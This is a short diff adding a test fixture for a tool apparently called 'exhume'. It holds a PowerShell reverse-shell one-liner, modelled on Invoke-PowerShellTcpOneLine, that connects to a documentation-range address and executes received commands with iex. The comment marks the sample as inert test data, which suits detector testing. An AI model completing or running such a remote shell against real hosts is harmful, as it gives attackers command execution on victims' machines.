@@ -1,0 +1,2 @@
+# exhume test sample: inert text shaped like Invoke-PowerShellTcpOneLine (address is a documentation range, never run)
+$client = New-Object System.Net.Sockets.TCPClient('192.0.2.1',0);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> '}
